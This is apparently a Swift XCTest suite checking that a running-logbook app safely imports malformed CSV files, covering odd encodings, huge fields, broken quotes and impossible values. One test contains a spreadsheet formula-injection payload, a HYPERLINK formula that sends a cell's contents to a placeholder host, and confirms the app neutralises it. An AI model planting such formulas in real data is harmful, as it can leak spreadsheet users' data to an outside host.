import Foundation
import XCTest

@testable import LogbookFormats

/// Hostile CSV: decimal commas, formulas, broken quotes, huge fields, missing columns
/// and undeclared Latin-1.
final class HostileCSVTests: HostileImportTestCase {
    private typealias F = HostileFiles

    func testSemicolonsWithDecimalCommas() throws {
        let text = F.csvHeader.replacingOccurrences(of: ",", with: ";")
            + "2024-05-02T06:00:00Z;running;10000,5;3000,5;2990,25;141,5;Lake\n"
        let stored = try assertImported(F.utf8(text), as: "semicolons.csv", warnings: [])
        XCTAssertEqual(stored.distance, 10000.5)
        XCTAssertEqual(stored.elapsed, 3000.5)
        XCTAssertEqual(stored.moving, 2990.25)
        XCTAssertEqual(try DatabaseSnapshot.scalar("SELECT avg_hr FROM runs WHERE id = 2", path: db).doubleValue, 141.5)
    }

    func testFormulaCellIsStoredAsLiteralText() throws {
        let formula = #"=HYPERLINK("http://example.invalid/?q="&A1,"click")"#
        let quoted = "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,10000,3000,3000,,\(quoted)\n"
        let stored = try assertImported(F.utf8(text), as: "formula.csv", warnings: [])
        XCTAssertEqual(stored.name, formula)
        // logbook's own CSV output neutralises it for spreadsheets; its JSON keeps it literal.
        let csv = try CLIRunner.run(["list", "--csv", "--db", db])
        XCTAssertEqual(csv.status, 0, csv.stderr)
        let neutralised = "\"'" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
        XCTAssertTrue(csv.stdout.contains(",running,\(neutralised),10000,"), csv.stdout)
        let json = try CLIRunner.run(["list", "--json", "--db", db])
        let runs = try XCTUnwrap(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]])
        XCTAssertEqual(runs.first { ($0["id"] as? Int) == 2 }?["name"] as? String, formula)
    }

    func testUnterminatedQuoteNamesTheLineWhereItOpens() throws {
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,10000,3000,3000,,ok\n"
            + "2024-05-03T06:00:00Z,running,10000,3000,3000,,\"never closed\n2024-05-04T06:00:00Z,running,1,1,1,,x\n"
        try assertRejected(F.utf8(text), as: "unterminated.csv", line: 3, reason: "unterminated quoted field")
    }

    func testOneMegabyteNameIsCutLikeAnXMLName() throws {
        let name = String(repeating: "y", count: 1_000_000)
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,10000,3000,3000,,\"\(name)\"\n"
        let stored = try assertImported(F.utf8(text), as: "megabyte.csv", warnings: [])
        XCTAssertEqual(stored.name?.count, XMLTextBuffer.limit)
        XCTAssertEqual(stored.distance, 10000)
    }

    /// The number once made a 50 MB message, in 18 s and 1.1 GB. Bounded by work, not by
    /// the clock: the message quotes 40 characters, and the reader never holds the cell
    /// (the peak stays below the 47.7 MiB the cell alone would take; about 27 MiB, what
    /// importing a one-line file costs).
    func testAFiftyMegabyteNumberGivesAShortMessageInBoundedMemory() throws {
        let number = String(repeating: "7", count: 50_000_000) + "x"
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,\(number),3000,3000,,Long\n"
        let path = try write(F.utf8(text), as: "huge-number.csv")
        let outcome = try MeasuredShell.run("{logbook} import --tz UTC --db '\(db)' '\(path)'", timeout: 120)
        let reason = "column 'distance_m': cannot read '7777777777777777777777777777777777777777…' (50000001 bytes) as a number"
        try assertRejection(CLIResult(status: outcome.status, stdout: outcome.stdout, stderr: outcome.stderr), of: path, line: 2, reason: reason)
        XCTAssertLessThan(outcome.peakMiB, 40, "the reader held the 50 MB cell")
    }

    func testABadCellIsQuotedInAFewDozenCharacters() throws {
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,ten thousand metres and then some more of them,3000,3000,,x\n"
        try assertRejected(
            F.utf8(text), as: "words.csv", line: 2,
            reason: "column 'distance_m': cannot read 'ten thousand metres and then some more o…' as a number")
    }

    func testANulByteNoLongerCutsAName() throws {
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,10000,3000,3000,,Before\u{0}After\n"
        let stored = try assertImported(F.utf8(text), as: "nul.csv", warnings: [])
        XCTAssertEqual(stored.name, "Before\u{0}After")
    }

    func testUTF16WithByteOrderMarkIsDecoded() throws {
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,10000,3000,3000,,Zürich 🏃\n"
        for (encoding, mark) in [(String.Encoding.utf16LittleEndian, [UInt8]([0xFF, 0xFE])), (.utf16BigEndian, [0xFE, 0xFF])] {
            let bytes = Data(mark) + (try XCTUnwrap(text.data(using: encoding)))
            let stored = try assertImported(bytes, as: "utf16-\(mark[0]).csv", warnings: [])
            XCTAssertEqual(stored.name, "Zürich 🏃")
            XCTAssertEqual(stored.distance, 10000)
            tearDown()
            try setUpWithError()
        }
    }

    func testWindows1252IsDecodedWhenItsBytesSaySo() throws {
        // “Sunday” run – 5 € entry: smart quotes 93/94, an en dash 96 and the euro sign 80.
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,10000,3000,3000,,\u{201C}Sunday\u{201D} run \u{2013} 5 \u{20AC} entry at the café\n"
        let bytes = try XCTUnwrap(text.data(using: .windowsCP1252))
        XCTAssertTrue(bytes.contains(0x80) && bytes.contains(0x93) && bytes.contains(0x96))
        let stored = try assertImported(
            bytes, as: "cp1252.csv", warnings: ["the file is not valid UTF-8; it was read as Windows-1252"])
        XCTAssertEqual(stored.name, "\u{201C}Sunday\u{201D} run \u{2013} 5 \u{20AC} entry at the café")
    }

    func testHeaderOnly() throws {
        try assertRejected(F.utf8(F.csvHeader), as: "header-only.csv", line: 1, reason: "the header is not followed by any row")
    }

    func testLatin1WithoutDeclaration() throws {
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,10000,3000,3000,,Café Läufli\n"
        let bytes = try XCTUnwrap(text.data(using: .isoLatin1))
        let stored = try assertImported(
            bytes, as: "latin1.csv", warnings: ["the file is not valid UTF-8; it was read as ISO-8859-1 (Latin-1)"])
        XCTAssertEqual(stored.name, "Café Läufli")
    }

    func testRowWithMissingColumns() throws {
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,10000,3000,3000,,a\n2024-05-03T06:00:00Z,running,10000,3000\n"
        try assertRejected(
            F.utf8(text), as: "short-row.csv", line: 3,
            reason: "column 'moving_s' is missing: the row has 4 fields, the header has 7")
    }

    func testNumberTooLargeForADouble() throws {
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,1e400,3000,3000,,a\n"
        try assertRejected(F.utf8(text), as: "1e400.csv", line: 2, reason: "column 'distance_m': cannot read '1e400' as a number")
    }

    func testImpossibleStatedTotalsAreDroppedNotAllowedToBreakTheSchema() throws {
        // Before the fix these hit the schema's CHECK constraints and the file was rejected
        // with SQLite's own words.
        let text = F.csvHeader + "2024-05-02T06:00:00Z,running,500000000,3000,3000,500,a\n"
        let stored = try assertImported(
            F.utf8(text), as: "absurd.csv",
            warnings: [
                "ignored the stated distance 500000000 m: more than 5000000 m cannot be true",
                "ignored the stated average heart rate 500 bpm: more than 300 bpm cannot be true",
            ])
        XCTAssertNil(stored.distance)
        XCTAssertEqual(stored.elapsed, 3000)
        XCTAssertEqual(stored.paceStatus, "no_distance")
    }

    func testByteOrderMarkAndCRLF() throws {
        let text = "\u{FEFF}" + (F.csvHeader + "2024-05-02T06:00:00Z,running,10000,3000,3000,,a\n").replacingOccurrences(of: "\n", with: "\r\n")
        let stored = try assertImported(F.utf8(text), as: "bom-crlf.csv", warnings: [])
        XCTAssertEqual(stored.name, "a")
        XCTAssertEqual(stored.distance, 10000)
    }
}
